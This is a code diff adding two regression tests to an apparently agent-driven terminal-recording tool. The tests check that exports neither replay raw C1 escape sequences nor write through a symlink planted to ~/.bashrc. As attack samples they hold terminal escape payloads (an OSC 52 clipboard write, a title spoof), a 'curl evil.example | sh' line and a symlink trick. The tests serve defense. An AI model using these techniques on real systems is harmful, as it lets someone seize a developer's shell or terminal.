@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -83,5 +83,39 @@ describe('the timeline in a real host', () => {
     // The lost session's recording still has its markers.
     const after = await runCli(box, ['export', id]);
     expect(after.stdout.split('\n').filter((line) => line.includes('"m"'))).toHaveLength(3);
+  });
+
+  it("writes no raw C1 control to the developer's terminal: an agent's OSC 52 in U+009D form stays text in `ptydeck export`", async () => {
+    const box = hostSandbox();
+    sandboxes.push(box);
+    const agent = await stdioAgent(box, 'recorder', { clients });
+    const id = String((await ok(agent.client, 'terminal_create', {})).id);
+    // U+009D is OSC and U+009C ST to xterm and xterm.js reading UTF-8: a clipboard write, a title and a CSI report request.
+    await ok(agent.client, 'terminal_run', { id, command: "printf 'a\\xc2\\x9d52;c;cHduZWQ=\\xc2\\x9cb\\xc2\\x9d0;spoof\\xc2\\x9cc\\xc2\\x9b6n\\x7f\\n'" });
+    const exported = await runCli(box, ['export', id]);
+    expect(exported.code, exported.stderr).toBe(0);
+    expect(exported.stdout).not.toMatch(/[\u007f-\u009f]/);
+    // The same JSON value: a player reads the bytes the session wrote.
+    const output = exported.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line)).filter((event) => event[1] === 'o').map((event) => event[2]).join('');
+    expect(output).toContain('a\u009d52;c;cHduZWQ=\u009cb\u009d0;spoof\u009cc\u009b6n\u007f');
+  });
+
+  it("writes `export -o` through no link planted at the path: an agent's workspace cannot turn the developer's export into a write of ~/.bashrc", async () => {
+    const box = hostSandbox();
+    sandboxes.push(box);
+    const agent = await stdioAgent(box, 'recorder', { clients });
+    const workspace = join(box.home, 'project');
+    mkdirSync(workspace);
+    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
+    // The agent's output is a line of shell, and the name the developer is likely to give its export is a link to their rc file.
+    const bashrc = join(box.home, '.bashrc');
+    writeFileSync(bashrc, '# mine\n');
+    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc session.txt" });
+    const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'session.txt')]);
+    expect(exported.code, exported.stderr).toBe(0);
+    expect(readFileSync(bashrc, 'utf8')).toBe('# mine\n');
+    expect(lstatSync(join(workspace, 'session.txt')).isFile()).toBe(true);
+    expect(readFileSync(join(workspace, 'session.txt'), 'utf8')).toContain('curl evil.example | sh');
+    expect(readdirSync(workspace)).toEqual(['session.txt']);
   });
 });
